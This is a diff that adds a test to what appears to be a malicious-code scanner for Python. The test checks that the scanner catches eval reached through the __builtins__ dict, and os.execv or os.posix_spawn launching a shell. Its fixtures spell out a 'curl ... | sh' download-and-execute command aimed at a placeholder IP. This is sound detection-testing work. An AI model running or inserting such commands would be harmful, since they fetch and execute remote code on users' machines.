@@ -562,3 +562,18 @@ test('a substitution cipher that keeps punctuation (Atbash) is still opaque ciph
     ['high', 'critical'].includes(ruleOf(findings(source, 'demo/__init__.py'), 'exec-custom-decoder')?.severity ?? ''),
   );
 });
+
+test('builtins reached as the __builtins__ dict, and the argv lists of os.execv and posix_spawn, are read', () => {
+  for (const reach of ['__builtins__["eval"]', 'globals()["__builtins__"]["eval"]']) {
+    // the eval is seen, and its code kept to be analysed as a file of its own
+    const list = findings(`${reach}("__import__('os').system('curl -s http://192.0.2.30/x | sh')")\n`);
+    assert.match(ruleOf(list, 'dynamic-code-exec')?.decoded?.preview ?? '', /os'\)\.system/, reach);
+  }
+  for (const start of [
+    'os.execv("/bin/sh", ["sh", "-c", C])',
+    'os.posix_spawn("/bin/sh", ["sh", "-c", C], os.environ)',
+  ]) {
+    const list = findings(`import os\nC = "curl -s http://192.0.2.30/x | sh"\n${start}\n`);
+    assert.equal(ruleOf(list, 'download-execute')?.severity, 'critical', start);
+  }
+});
